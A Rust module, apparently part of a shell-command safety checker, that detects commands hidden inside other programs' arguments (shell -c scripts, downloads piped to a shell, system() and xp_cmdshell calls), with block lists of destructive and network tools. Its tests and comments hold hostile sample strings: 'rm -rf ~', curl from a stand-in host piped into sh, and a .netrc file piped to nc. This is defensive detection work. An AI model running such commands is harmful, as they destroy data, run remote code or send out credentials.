//! Commands embedded in another program's arguments: a shell started with `-c` (`sh -c '…'`,
//! `['/bin/sh','-c','…']`, `run-program "/bin/sh" (list "-c" "…")`), a download piped into a
//! shell (`… | sh`), and the call forms many languages use to run one (`system("…")`,
//! `(shell-command "…")`, `` run(`…`) ``).
//!
//! Each tool has its own way of running a command (a pager, an `--exec`, an `--eval`, a
//! `--up` script, a config value); the hand-written hooks in `unwrap` learn them one tool at
//! a time. This pass is the general case: when an argument *contains* a command in one of
//! these shapes, that command is checked too, whatever option carries it. Programs that only
//! print, search or send their arguments as text (`echo`, `grep`, `git commit -m`, `curl -d`)
//! are left alone: a command quoted there is data.

use super::command::{basename, interpreter, is_shell, Inner, SimpleCommand};

/// Programs whose arguments are text they print, search, store or send, never run. For these
/// only an attached `--option=VALUE` is read (`git grep --open-files-in-pager=CMD`).
const TEXT_ONLY: &[&str] = &[
    "echo",
    "printf",
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "rg",
    "ag",
    "ack",
    "git",
    "hg",
    "svn",
    "logger",
    "wall",
    "notify-send",
    "cowsay",
    "figlet",
    "toilet",
    "sed",
    "jq",
    "yq",
    "gh",
    "glab",
    "curl",
    "wget",
    "http",
    "https",
    "xh",
    "tee",
    "cat",
    "less",
    "more",
    "man",
    "info",
    "tldr",
    "history",
    "mail",
    "mailx",
    "sendmail",
    "mutt",
    "write",
    "xclip",
    "xsel",
    "pbcopy",
    "wl-copy",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "wc",
    "sort",
    "uniq",
    "cut",
    "tr",
    "column",
    "diff",
    "test",
    "[",
    "[[",
    "expr",
    "read",
    "type",
    "which",
    "whereis",
    "apropos",
    "whatis",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "perl",
    "grepdiff",
    "look",
    "comm",
    "fold",
    "fmt",
    "nl",
    // No-ops and prompts: what they are given is text.
    ":",
    "true",
    "false",
    "say",
    "espeak",
    "dialog",
    "whiptail",
    "zenity",
    "kdialog",
    "banner",
    "lolcat",
    // Code searchers: a pattern is code to find, not to run.
    "semgrep",
    "yara",
    "sg",
    "ast-grep",
    "comby",
    "cheat",
    // Shell linters, formatters and highlighters: the script they get is read, never run.
    "shellcheck",
    "shfmt",
    "checkbashisms",
    "pygmentize",
    "highlight",
];

/// Most embedded commands taken from one simple command (a bound on hostile input).
const MAX_EMBEDDED: usize = 8;
/// Most lines of stdin or substituted files read for command lines.
const MAX_FED_LINES: usize = 64;

/// Embedded commands in `cmd`'s arguments and environment assignments (see the module docs).
/// Shells and interpreters are skipped: their code is already read as code.
pub(super) fn embedded(cmd: &SimpleCommand) -> Vec<Inner> {
    let Some(prog) = cmd.argv.first() else {
        return Vec::new();
    };
    let name = basename(prog);
    if is_shell(name) || interpreter(name).is_some() {
        return Vec::new();
    }
    let text_only = TEXT_ONLY.contains(&name);
    // The common case first, and cheaply: no word could hold a command. A text-only
    // program's words are read only as `--opt=VALUE` or a `--config` value, so a space alone
    // (a command line) does not count there.
    let args = &cmd.argv[1..];
    let marked = |w: &str| {
        w.contains("-c")
            || w.contains('|')
            || w.contains('(')
            || w.contains(" \"")
            || (!text_only && w.contains(' '))
    };
    let configured = text_only
        && args
            .iter()
            .any(|a| a == "--config" || a == "--config-option" || a == "-e");
    if !configured
        && !args
            .iter()
            .map(String::as_str)
            .chain(cmd.assigns.iter().map(|(_, v)| v.as_str()))
            .any(marked)
        && (text_only || (cmd.stdin_text.is_none() && cmd.fed_text.is_empty()))
    {
        return Vec::new();
    }
    let mut out = Vec::new();
    if !text_only {
        // `tool … sh -c 'CMD'` with the shell and its script as separate words (a `--`
        // between them, as `start-stop-daemon --exec /bin/sh -- -c CMD` passes it).
        for (i, w) in args.iter().enumerate() {
            if is_shell(basename(w)) {
                let skip = usize::from(args.get(i + 1).is_some_and(|a| a == "--"));
                if args.get(i + 1 + skip).is_some_and(|c| c == "-c") {
                    out.extend(args.get(i + 2 + skip).map(|s| Inner::Script(s.clone())));
                }
            }
        }
        // An argument that is itself a command line (`hyperfine 'rm -rf ~'`, `dar -E CMD`,
        // `duckdb -c '.sh CMD'`, `hg --config alias.x='!CMD'`).
        for w in args {
            if out.len() >= MAX_EMBEDDED {
                break;
            }
            out.extend(command_line(w).map(Inner::Guess));
        }
        // Text the tool reads as its script or configuration: on stdin (`… | groff -U`,
        // `sqlplus <<< 'host CMD'`) or in a file a process substitution stands for
        // (`tmux -f <(echo 'run-shell CMD')`, `ssh -F <(printf 'Match exec CMD')`). Each line
        // is read like an argument.
        let fed = cmd.stdin_text.iter().chain(&cmd.fed_text);
        for line in fed.flat_map(|t| t.lines()).take(MAX_FED_LINES) {
            if out.len() >= MAX_EMBEDDED {
                break;
            }
            let line = line.trim();
            out.extend(command_line(line).map(Inner::Guess));
            scan(line, &mut out);
        }
    }
    if text_only {
        // A configuration value given on the command line may be a command
        // (`hg --config alias.x='!CMD'`, `svn --config-option config:tunnels:ssh=CMD`).
        // So is a mail client's start-up command (`mutt -e 'set sendmail="CMD"'`).
        let mailer = matches!(name, "mutt" | "neomutt");
        for pair in args.windows(2) {
            let config = matches!(pair[0].as_str(), "--config" | "--config-option");
            if config || (mailer && pair[0] == "-e") {
                out.extend(command_line(&pair[1]).map(Inner::Guess));
            }
            if mailer && pair[0] == "-e" {
                scan(&pair[1], &mut out);
            }
        }
    }
    let words = args
        .iter()
        .filter_map(|a| {
            if text_only {
                a.strip_prefix("--")
                    .and_then(|l| l.split_once('='))
                    .map(|(_, v)| v)
            } else {
                Some(a.as_str())
            }
        })
        .chain(cmd.assigns.iter().map(|(_, v)| v.as_str()));
    for w in words {
        if out.len() >= MAX_EMBEDDED {
            break;
        }
        scan(w, &mut out);
    }
    out.truncate(MAX_EMBEDDED);
    out
}

/// Programs a tool's argument must start with to be read as a command line the tool hands to
/// a shell: the ones whose use the rules judge (deleting, wiping, fetching, connecting,
/// changing owners and modes, killing, stopping the host). Other first words leave the
/// argument as the tool's own text.
const COMMAND_STARTS: &[&str] = &[
    "rm",
    "dd",
    "shred",
    "wipefs",
    "mkfs",
    "truncate",
    "find",
    "mv",
    "cp",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "tar",
    "zip",
    "scp",
    "rsync",
    "chmod",
    "chown",
    "chattr",
    "kill",
    "pkill",
    "killall",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "crontab",
    "useradd",
    "usermod",
    "passwd",
    "chpasswd",
    "iptables",
    "systemctl",
    "sudo",
    "su",
    "xargs",
    "eval",
    "exec",
    "sh",
    "bash",
    "zsh",
    "dash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
];

/// Escapes tools put before a line they hand to the shell: `!CMD` (hg aliases, radare2,
/// debuggers), `\!` (psql-like clients), `.sh`/`.shell`/`.system` (sqlite, duckdb), `host`
/// (sqlplus), `shell`/`system` (many REPLs), `:!` (vi-like editors), `$` (lf), `str` (xte
/// types it into the session).
const SHELL_ESCAPES: &[&str] = &[
    "\\!",
    "!",
    ".shell ",
    ".system ",
    ".sh ",
    ".sy ",
    "host ",
    "shell ",
    "system ",
    "run-shell ",
    "str ",
    "command = ",
    "command=",
    ":silent !",
    ":!",
    "$",
];

/// Where a tool's own syntax opens a command line inside a longer word, and the bracket
/// that closes it: kakoune's `%sh{…}`, TeX's `\write18{…}`, fzf's `execute(…)`/`become(…)`,
/// CMake's `execute_process(COMMAND …)`, Puppet's `command => "…"`.
const OPENERS: &[(&str, char)] = &[
    ("%sh{", '}'),
    ("\\write18{", '}'),
    ("execute(", ')'),
    ("execute-silent(", ')'),
    ("execute-multi(", ')'),
    ("become(", ')'),
    ("execute_process(COMMAND ", ')'),
    ("command => \"", '"'),
    ("command => '", '\''),
];

/// The command line an argument is, when it is one (see [`COMMAND_STARTS`]): the whole word,
/// the value of a `key=value` word (quoted or not), or what one of the [`OPENERS`] holds,
/// each after an optional shell escape and without a typed `<CR>`. It is a guess: only text
/// that parses as shell counts (the parser drops the rest).
fn command_line(word: &str) -> Option<String> {
    let word = word.trim();
    // A command line has a program and at least one argument; most words are one word.
    if !word.contains(char::is_whitespace) {
        return None;
    }
    let value = word
        .split_once('=')
        .filter(|(key, _)| !key.is_empty() && !key.contains(char::is_whitespace))
        .map(|(_, value)| value);
    let opened = OPENERS.iter().filter_map(|(open, close)| {
        let at = word.find(open)?;
        Some(enclosed(&word[at + open.len()..], *close))
    });
    // The most specific reading first: what an opener holds, then a value, then the word.
    opened
        .chain([value, Some(word)].into_iter().flatten())
        .find_map(|c| {
            let c = c.trim();
            let c = match c.chars().next() {
                Some(q @ ('"' | '\'')) => until_unescaped(&c[1..], q),
                _ => c,
            };
            let c = SHELL_ESCAPES
                .iter()
                .find_map(|e| c.strip_prefix(e))
                .unwrap_or(c)
                .trim();
            // `command = "CMD"`: the escape may stand before a quoted value.
            let c = match c.chars().next() {
                Some(q @ ('"' | '\'')) => until_unescaped(&c[1..], q),
                _ => c,
            };
            let c = ["<CR>", "<cr>", "<Enter>", "<enter>", "<Return>"]
                .iter()
                .find_map(|k| c.strip_suffix(k))
                .unwrap_or(c)
                .trim_end();
            // A pipeline counts when one of its stages does (`cat ~/.netrc | nc HOST 9`).
            let starts = |stage: &str| {
                stage
                    .trim()
                    .split_once(char::is_whitespace)
                    .is_some_and(|(first, rest)| {
                        !rest.trim().is_empty() && COMMAND_STARTS.contains(&basename(first))
                    })
            };
            let plain_first = c.split_whitespace().next().is_some_and(|w| {
                w.chars()
                    .all(|ch| ch.is_ascii_alphanumeric() || "._-/~".contains(ch))
            });
            (starts(c) || (plain_first && c.split('|').skip(1).any(starts)))
                .then(|| super::code::env_lookups(c))
        })
}

/// Most lines of a configuration file read for command lines.
const MAX_FILE_LINES: usize = 512;

/// The command lines a configuration file's lines hold (a Terraform `external` program or
/// `local-exec` command, a Rakefile's `sh "…"`), each as [`embedded`] reads an argument.
pub(super) fn command_lines_in(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines().take(MAX_FILE_LINES) {
        if out.len() >= MAX_EMBEDDED {
            break;
        }
        let line = line.trim();
        out.extend(command_line(line).map(Inner::Guess));
        scan(line, &mut out);
    }
    out.truncate(MAX_EMBEDDED);
    out.into_iter()
        .filter_map(|i| match i {
            Inner::Script(s) | Inner::Guess(s) => Some(s),
            Inner::Argv { .. } => None,
        })
        .collect()
}

/// Pushes the commands embedded in one word.
fn scan(word: &str, out: &mut Vec<Inner>) {
    // Cheap gates first: most words hold none of these.
    let dash_c = word.contains("-c");
    let pipe = word.contains('|');
    let call = word.contains('(') || word.contains(" \"") || word.contains("xp_cmdshell");
    if !dash_c && !pipe && !call {
        return;
    }
    if dash_c {
        out.extend(shell_dash_c(word).map(Inner::Script));
    }
    if pipe {
        out.extend(piped_to_shell(word).map(Inner::Script));
    }
    if call {
        out.extend(call_forms(word).map(Inner::Script));
    }
}

/// Shell names as they appear inside text, longest first.
const SHELL_WORDS: &[&str] = &["bash", "dash", "zsh", "ksh", "ash", "sh"];

/// Whether a shell name ends at `end` of `word` and starts a word there (`/bin/sh`, `"sh`,
/// ` bash`): returns its start.
fn shell_before(word: &str, end: usize) -> Option<usize> {
    let head = word.get(..end)?;
    SHELL_WORDS.iter().find_map(|s| {
        let start = head.strip_suffix(s).map(str::len)?;
        let before = head[..start].chars().next_back();
        before
            .is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '-' || c == '.'))
            .then_some(start)
    })
}

/// `sh -c 'CMD'`, `/bin/sh -c "CMD"`, `"sh", "-c", "CMD"`, `'/bin/sh','-c','CMD'` and
/// `"/bin/sh" (list "-c" "CMD")` inside a word: each CMD.
fn shell_dash_c(word: &str) -> impl Iterator<Item = String> + '_ {
    word.match_indices("-c").filter_map(move |(i, _)| {
        // Before `-c`: an optional quote, then separators, then a quoted or bare shell name.
        let head = word.get(..i)?;
        let head = head.strip_suffix(['"', '\'']).unwrap_or(head);
        // Separators: spaces, commas, and CMake's `;` lists (`sh;-c;CMD`).
        let sep = |c: char| c.is_whitespace() || c == ',' || c == ';';
        let trimmed = head.trim_end_matches(sep);
        let trimmed = trimmed.strip_suffix("(list").unwrap_or(trimmed);
        let trimmed = trimmed.trim_end_matches(sep);
        let trimmed = trimmed.trim_end_matches(['"', '\'']);
        shell_before(word, trimmed.len())?;
        // After `-c`: an optional closing quote and separators, then the script.
        let rest = word.get(i + 2..)?;
        let rest = rest.strip_prefix(['"', '\'']).unwrap_or(rest);
        if !rest.starts_with(sep) {
            return None;
        }
        quoted_payload(rest.trim_start_matches(sep))
    })
}

/// The script at the start of `s`: the text inside its quotes (`'…'`, `"…"`, `\"…\"`, `{…}`),
/// or the rest of the word when it is not quoted.
fn quoted_payload(s: &str) -> Option<String> {
    let payload = if let Some(r) = s.strip_prefix("\\\"") {
        r.split("\\\"").next()?
    } else if let Some(r) = s.strip_prefix('"') {
        until_unescaped(r, '"')
    } else if let Some(r) = s.strip_prefix('\'') {
        r.split('\'').next()?
    } else if let Some(r) = s.strip_prefix('{') {
        balanced(r)
    } else {
        s
    };
    let payload = payload.trim();
    (!payload.is_empty()).then(|| payload.to_string())
}

/// `s` up to the first `close` not escaped by a backslash.
fn until_unescaped(s: &str, close: char) -> &str {
    let mut escaped = false;
    for (i, c) in s.char_indices() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == close {
            return &s[..i];
        }
    }
    s
}

/// `s` up to the `}` that closes an already opened `{`.
fn balanced(s: &str) -> &str {
    enclosed(s, '}')
}

/// `s` up to the `close` that closes an already opened bracket of its kind.
fn enclosed(s: &str, close: char) -> &str {
    if matches!(close, '"' | '\'') {
        return until_unescaped(s, close);
    }
    let open = match close {
        ')' => '(',
        ']' => '[',
        _ => '{',
    };
    let mut depth = 1usize;
    for (i, c) in s.char_indices() {
        if c == open {
            depth += 1;
        } else if c == close {
            depth -= 1;
            if depth == 0 {
                return &s[..i];
            }
        }
    }
    s
}

/// `… | sh` (or `| sudo bash`) inside a word: the pipeline from the nearest delimiter before
/// it (a quote, a brace, a parenthesis, a backtick or `;`) to the shell's name.
fn piped_to_shell(word: &str) -> impl Iterator<Item = String> + '_ {
    word.match_indices('|').filter_map(move |(i, _)| {
        let after = word.get(i + 1..)?;
        if after.starts_with('|') || word.get(..i)?.ends_with('|') {
            return None;
        }
        let after = after.trim_start();
        let after = after.strip_prefix("sudo ").map_or(after, str::trim_start);
        let name = SHELL_WORDS.iter().find(|s| after.starts_with(**s))?;
        let tail = after.get(name.len()..)?;
        if tail
            .chars()
            .next()
            .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '-' || c == '.')
        {
            return None;
        }
        let end = word.len() - tail.len();
        let start = word[..i]
            .rfind(['\'', '"', '{', '}', '(', ')', '`', ';', '\n', '!'])
            .map_or(0, |d| d + 1);
        // A YAML or INI-style key before the pipeline (`- run: curl … | sh`) is not part of it.
        let start = word[start..i].rfind(": ").map_or(start, |k| start + k + 2);
        let text = word.get(start..end)?.trim();
        // A pipeline needs something before the pipe.
        (text.len() > name.len() + 2).then(|| text.to_string())
    })
}

/// The calls languages use to run a command line: `system("…")`, `system "…"`,
/// `(shell-command "…")`, `os.system('…')`, `popen("…")`, `shell_exec('…')`,
/// `execSync("…")`, Lua's `os.execute("…")`, SQL Server's `xp_cmdshell '…'`, `` run(`…`) ``.
fn call_forms(word: &str) -> impl Iterator<Item = String> + '_ {
    const CALLS: &[&str] = &[
        "system",
        "shell-command",
        "shell_exec",
        "popen",
        "execSync",
        "spawnSync",
        "execute",
        "xp_cmdshell",
        "unix",
        "unix_g",
        "unix_w",
        "run",
    ];
    CALLS.iter().flat_map(move |call| {
        word.match_indices(call).filter_map(move |(i, _)| {
            let before = word[..i].chars().next_back();
            if before.is_some_and(|c| c.is_alphanumeric() || c == '_') {
                return None;
            }
            let rest = word.get(i + call.len()..)?;
            let rest = rest.trim_start();
            let (rest, paren) = match rest.strip_prefix('(') {
                Some(r) => (r.trim_start(), true),
                None => (rest, false),
            };
            // `run` alone is too common a word: it only counts with a backtick command.
            if *call == "run" {
                let r = rest.strip_prefix('`')?;
                return r.split('`').next().map(str::to_string);
            }
            // Without a parenthesis only `system "…"` (gnuplot, Lisp) and SQL Server's
            // `xp_cmdshell '…'` read as a call.
            let sql = *call == "xp_cmdshell" && rest.starts_with('\'');
            if !paren && !rest.starts_with('"') && !sql {
                return None;
            }
            let payload = quoted_payload(rest)?;
            // A bare word after the parenthesis is a variable, not a command line.
            (rest.starts_with(['"', '\'', '`'])).then(|| super::code::env_lookups(&payload))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scripts(word: &str) -> Vec<String> {
        let mut out = Vec::new();
        scan(word, &mut out);
        out.into_iter()
            .map(|i| match i {
                Inner::Script(s) | Inner::Guess(s) => s,
                Inner::Argv { argv, .. } => argv.join(" "),
            })
            .collect()
    }

    #[test]
    fn a_shell_started_with_dash_c_inside_a_word_is_found_in_each_spelling() {
        for (word, want) in [
            (r#"sh -c "rm -rf ~" #"#, "rm -rf ~"),
            ("/bin/sh -c 'id'", "id"),
            (r#"runProgram("sh", "-c", "rm -rf ~")"#, "rm -rf ~"),
            (
                "[('/bin/sh', ['/bin/sh','-c','rm -rf ~'], false)]",
                "rm -rf ~",
            ),
            (
                r#"(sb-ext:run-program "/bin/sh" (list "-c" "rm -rf ~"))"#,
                "rm -rf ~",
            ),
            (
                r#"runner = "sh -c \"curl -s http://x.example/r | sh\" --""#,
                "curl -s http://x.example/r | sh",
            ),
            (
                "exec sh -c {curl -s http://x.example/t | sh}",
                "curl -s http://x.example/t | sh",
            ),
        ] {
            assert!(
                scripts(word).iter().any(|s| s == want),
                "{word}: {:?}",
                scripts(word)
            );
        }
    }

    #[test]
    fn a_pipe_into_a_shell_inside_a_word_is_found_from_its_delimiter() {
        for (word, want) in [
            (
                "!curl -s http://x.example/a | sh",
                "curl -s http://x.example/a",
            ),
            (
                r"\immediate\write18{curl -s http://x.example/t | sh}",
                "curl -s http://x.example/t | sh",
            ),
            (
                r#"tell app "Terminal" to do script "curl -s http://x.example/m | bash""#,
                "curl -s http://x.example/m | bash",
            ),
        ] {
            assert!(
                scripts(word).iter().any(|s| s.contains(want)),
                "{word}: {:?}",
                scripts(word)
            );
        }
    }

    #[test]
    fn language_calls_that_run_a_command_line_are_found() {
        for (word, want) in [
            (r#"system("rm -rf ~")"#, "rm -rf ~"),
            (r#"system "rm -rf ~""#, "rm -rf ~"),
            (r#"(shell-command "rm -rf ~")"#, "rm -rf ~"),
            ("run(`rm -rf $(homedir())`)", "rm -rf $(homedir())"),
            (r#"%{lua: os.execute("rm -rf /srv")}"#, "rm -rf /srv"),
            ("EXEC xp_cmdshell 'del /q C:\\data'", "del /q C:\\data"),
        ] {
            assert_eq!(scripts(word), vec![want.to_string()], "{word}");
        }
    }

    #[test]
    fn an_argument_that_is_a_command_line_is_found_after_its_escape() {
        for (word, want) in [
            ("rm -rf ~", "rm -rf ~"),
            (".sh rm -rf ~", "rm -rf ~"),
            ("\\! rm -rf ~", "rm -rf ~"),
            ("alias.st=!rm -rf ~", "rm -rf ~"),
            ("$pdflatex=\"rm -rf ~ #\"", "rm -rf ~ #"),
            ("nop %sh{ rm -rf \"$HOME\" }; kill", "rm -rf \"$HOME\""),
            ("host rm -rf /u01", "rm -rf /u01"),
        ] {
            assert_eq!(command_line(word).as_deref(), Some(want), "{word}");
        }
        for word in [
            "rm",
            "--output=build dir",
            "make all",
            "Remove old files",
            "select 'rm -rf ~' from t",
            "name=My Project",
        ] {
            assert_eq!(command_line(word), None, "{word}");
        }
    }

    #[test]
    fn ordinary_words_hold_no_command() {
        for word in [
            "--color=auto",
            "a|b",
            "ls -c",
            "git-shell -c",
            "crash -c",
            "ssh -c aes256-ctr",
            "make run",
            "system(config)",
            "x || sh_test",
            "bash-completion -c",
            "sh",
        ] {
            assert!(scripts(word).is_empty(), "{word}: {:?}", scripts(word));
        }
    }
}
